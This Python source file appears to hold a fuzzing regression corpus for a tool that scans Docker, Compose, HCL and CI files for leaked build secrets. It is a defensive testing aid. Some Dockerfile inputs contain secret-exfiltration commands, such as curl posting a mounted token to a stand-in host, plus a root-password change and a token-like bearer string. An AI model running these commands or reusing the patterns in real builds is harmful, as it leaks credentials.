"""Inputs that broke something once, cut down where that was easy: target -> what went wrong -> the bytes."""

from __future__ import annotations

FOUND: dict[str, dict[str, bytes]] = {
    "guard": {
        "bashlex went back to the start of the word for ever": b"te'st ${#'TOKEN",
        "the same behind a word that ends": b"sh -c 'cat /t > /app${a:\"ner'ets/token > /y /a'",
    },
    "yaml": {
        "the parser wrote behind its buffer of open blocks": b"- " * 300 + b"a\n",
        "a repair of what is no list was never done": (
            b'services:\n  web:\n    build:\n      context: .\n      args: \x00NODE_ENV=production, "NPM_TOKEN\xf0\x9f'
            b'\x91\xa9TOKEN_O|\nF_NPM:-}"]\n      s\xed\xb2\x80ets:\n        - github\nsecrets:\n  github:\n'
            b"    fil|\ne: ./github.txt\n"
        ),
        "a repair in an open quote lost the build": (
            b'image:\n  script:\n    - docker build --pull --build-arg NPM_TOKEN="$\xc3\xa9 -t '
            b'"$CI_REGISTRY_IMAGE:latest" .\n'
        ),
        "a repair of a flow mapping could not be read": (
            b'services:\n  web: {build: {context: ., args: {NP\xed\xb2\x80_TOKEN: "${NPM_TOKEN}", A: e\xcc\x81"1"}}}\n'
        ),
        "a repair of a key that stands twice took more away": (
            b"services:\n  base:\n    build:\n      context: .\n      args:\n        N:\n      context: .\n"
            b"      args:\n        NPM_TOKEN:\n  web:\n    extends: ba base\n"
        ),
    },
    "hcl": {
        "a repair of a target that stands twice was never done": (
            b'target "w" {\n  targets = ["web"]\n}\n\ntarget "w" {\n  context = "."\n  args = {\n'
            b'    NODE_ENV  = "production" # keep\n    NPM_TOKEN = NPM_TOKEN\n  }\n}\n'
        ),
        "a repair of a comma on a line of its own could not be read": (
            b'target "_common" {\n  args \n= {\n    NPM_TOKEN = null\n ,   NODE_ENV = "production"\n  }\n}\n'
            b'target "web" {\n  inherits = ["_common"]\n  context = "."\n}\n'
        ),
    },
    "scripts": {
        "a repair of a quoted option lost the build": (
            b'docker buildx build \\\n  --build-arg "NPM_TOKEN=${NPTOKEN=${NPM_TOKEN}" \\\n  --tag app:latest \\\n  .\n'
        ),
        "a repair in an open quote changed other builds": (
            b'docker buildx build \\\n  --build-arg "NPM_TOKEin`\npodman build --build-arg=NPM_TOKEN -t app . #\n'
            b"podman build ---build-arg NPM_TOKENt other other/\n"
        ),
    },
    "workspace": {
        "a repair emptied a file that another service extends": (
            b"\x1dbservices:\n  web:\n    extends: {file: common.yml, service: base}\n  api:\n"
            b"    extends: {file: common.yml, service: base}\n    build: {context: .}\n\nsecrets:\n  npm_token:\n"
            b"    environment: NPM_TOKEN\n\x1ddservices:\n  base:\n    build:\n      args: [NPM_TOKEN]\n"
        ),
        "an argument went out of a file that a broken one takes it from": (
            b"\x1dbservices:\n  web:\n    extends: {file: common.yml, service: base}\n    build: {: {context: web}\n"
            b"  api:\n    extendsextends: {file: \xe2\x80\xa8cservices:\n  web:\n    volumes:\n      - .:/app\n"
            b"\x1daFROM nodease}\n    build: {context: api}\n"
            b"\x1ddservices:\n  base:\n    build:\n      args: [NPM_TOKEN]\n"
        ),
        "the same with the fix of the Dockerfile": (
            b"\x1dbservices:\n  web:\n    extends: {file: common.yml, service: base}\n    build: {context: web>-\n}\n"
            b"  api:\n  NPM_TOKEN\nRUN npm ci --token=$NPM_TOKEN\nbase}\n    build:  push\njobs:\n  build:\n"
            b"    runs-on: ubuntu-latest\n    steps:\n      - uses: docker/api}\n"
            b"\x1ddservices:\n  base:\n    build:\n      args: [NPM_TOKEN]\n"
        ),
        "a fix that was said to be of a file that it could not edit": (
            b"\x1dbx-args: &args\n  NODE_ENV: production\n  NPM_TOKEN: ${NPM_TOKEN}\n\nservices:\n  web:\n    build:\n"
            b"      context: .\n      args: *args\n   worker:\n    build:\n      contex: .\n      args:\n"
            b"        <<: *args\n        ROLE:OKEN }} \\\n            -t app .\n\x1daFROM node:22\nARG NPM_TOKEN\n"
            b"RUN npm ci --token=$FR\r\nnode:22\nARG NPM_TOKEN\nRUN npm ci --to=$NPM_TOKEN\n"
        ),
    },
    "config": {
        "a pattern with a range that runs backwards": b'exclude = ["vendor/ignore", "!o[oercyim-a]"]\n',
    },
    "dockerignore": {
        "a range that runs backwards": b"a/b/c\n*\n!a\n[a-[c]*\n",
        "a range to a slash": b"a/b/c\n[a-/..c]\\]*\n*\n",
        "an escape that means nothing": b"a/b/c\n[[a\\c]\\]*\n",
        "a range from what is no text": b"a/b/c\n[a\xff-c]\n",
    },
    "analysis": {
        "a suggested path with a comment in it": (
            b"FROM a\nRUN --mount=type=secret,id=toke#SL curl -d $(cat /run/secrets/token) https://x -o /a.tgz\n"
        ),
        "a suggested path with an operator in it": (
            b"FROM a\nRUN --mount=type=secret,id=netrc,target=/|| truerootid=tok set -x; T=$(cat /run/secrets/tok);"
            b" tar -cf /app/home.tar -C / root\n"
        ),
        "a suggested path with a backtick in it": (
            b"FROM a\nRUN --mount=type=secret,id=npmr` if [ a ]; then cp /run/secrets/npmrc /root/.npmrc; fi\n"
        ),
        "a comment behind a line separator": "FROM a\n\u2028RUN --mount=ttype=secret,id=t x\n".encode(),
        "a comment above a continuation in front of the keyword": (
            b"FROM a\n\\\nRUN --mount=type=secret,id=to\\\n& rm -f ~${TOKEN:-/.npmrc\n"
        ),
        "a finding behind the last character": b"FROM a\nRUN --mount=type=secret,",
        "a password in the default of a variable": (
            b'FROM a\nRUN sh -c "echo root:${password:-docker} |chpasswd" && echo hi\n'
        ),
        "a comment in front of a byte order mark within the file": (
            b'FROM a\n\xef\xbb\xbfRUN wget --header "Authorization: Bearer ghp_0123456789abcdefghijklmnopqrstuvwxyz"\n'
        ),
        "a file and another that seems to lie in it removed at once": (
            b"FROM a\nRUN --mount=type=secret,id=t cp /run/secrets/t /d && cp /run/secrets/t /d/t && rm /d\n"
        ),
    },
}
